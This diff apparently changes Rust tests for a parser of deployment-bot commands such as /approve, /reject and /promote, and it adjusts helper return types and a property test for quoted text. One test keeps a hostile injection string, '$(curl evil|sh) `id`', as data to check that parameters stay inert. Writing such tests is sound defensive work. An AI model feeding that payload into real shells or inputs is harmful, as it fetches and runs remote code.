@@ -31,12 +31,12 @@ fn parameters<const N: usize>(pairs: [(&str, &str); N]) -> BTreeMap<ParameterNam
     pairs.into_iter().map(|(name, value)| (name.parse().unwrap(), value.to_owned())).collect()
 }
 
-fn number(number: i64) -> Option<Which> {
-    Some(Which::Number(PromotionNumber(number)))
+fn number(number: i64) -> Which {
+    Which::Number(PromotionNumber(number))
 }
 
-fn named(environment: &str) -> Option<Which> {
-    Some(Which::Environment(environment.parse().unwrap()))
+fn named(environment: &str) -> Which {
+    Which::Environment(environment.parse().unwrap())
 }
 
 fn check(body: &str, expected: Command) {
@@ -78,15 +78,15 @@ fn a_promotion_is_read_with_all_that_was_said() {
 #[test]
 fn the_other_commands_are_read() {
     check("/approve", Command::Approve { which: None });
-    check("/approve p42", Command::Approve { which: number(42) });
-    check("/approve production", Command::Approve { which: named("production") });
+    check("/approve p42", Command::Approve { which: Some(number(42)) });
+    check("/approve production", Command::Approve { which: Some(named("production")) });
     let reason = "not on a Friday".to_owned();
     check(
         "/reject p7 --reason \"not on a Friday\"",
-        Command::Reject { which: number(7), reason: reason.clone() },
+        Command::Reject { which: Some(number(7)), reason: reason.clone() },
     );
     check("/reject --reason “ not on a Friday ”", Command::Reject { which: None, reason });
-    check("/cancel p1", Command::Cancel { which: number(1) });
+    check("/cancel p1", Command::Cancel { which: Some(number(1)) });
     check("/status", Command::Status { environment: None });
     check("/status staging", Command::Status { environment: Some("staging".parse().unwrap()) });
     check("/why", Command::Why { which: None });
@@ -204,7 +204,7 @@ fn several_commands_may_follow_each_other() {
     let body = "/approve p1\n/lgtm\n/promte staging\r\n /status\nthanks\n/approve p2";
     let Parsed::Commands(commands) = parse(body) else { panic!() };
     assert_eq!(commands.len(), 3);
-    assert_eq!(commands[0], Ok(Command::Approve { which: number(1) }));
+    assert_eq!(commands[0], Ok(Command::Approve { which: Some(number(1)) }));
     assert_eq!(commands[1].as_ref().unwrap_err().code, "unknown_command");
     assert_eq!(commands[2], Ok(Command::Status { environment: None }));
 
@@ -280,7 +280,7 @@ fn pitfall_27_a_target_is_a_commit_or_a_tag_and_never_guessed() {
 
 #[test]
 fn pitfall_29_parameters_are_data_with_typed_names() {
-    let hostile = r#"$(curl evil|sh) `id` ${IFS} \ ' ; && <b>"#;
+    let hostile = r"$(curl evil|sh) `id` ${IFS} \ ' ; && <b>";
     let Some(Ok(Command::Promote(read))) = only(&format!("/promote staging \"note={hostile}\"")) else {
         panic!()
     };
@@ -314,10 +314,11 @@ proptest! {
 
     #[test]
     fn what_is_fenced_quoted_or_hidden_commands_nothing(text in any_text(), lead in "\n{0,2} {0,3}") {
-        let quoted: String = text.split(['\n', '\r']).map(|line| format!("> {line}\n")).collect();
-        prop_assert_eq!(parse(&format!("{lead}{quoted}/approve")), Parsed::NotForUs);
-        let indented: String = text.split(['\n', '\r']).map(|line| format!("    {line}\n")).collect();
-        prop_assert_eq!(parse(&format!("    x\n{indented}/approve")), Parsed::NotForUs);
+        let marked = |mark: &str| text.replace(['\n', '\r'], &format!("\n{mark}"));
+        let quoted = format!("{lead}> {}\n/approve", marked("> "));
+        prop_assert_eq!(parse(&quoted), Parsed::NotForUs);
+        let indented = format!("    x\n    {}\n/approve", marked("    "));
+        prop_assert_eq!(parse(&indented), Parsed::NotForUs);
         for (open, close) in [("```\n", "\n```"), ("~~~\n", "\n~~~"), ("<!--\n", "\n-->")] {
             prop_assert_eq!(parse(&format!("{lead}{open}{text}{close}")), Parsed::NotForUs);
         }
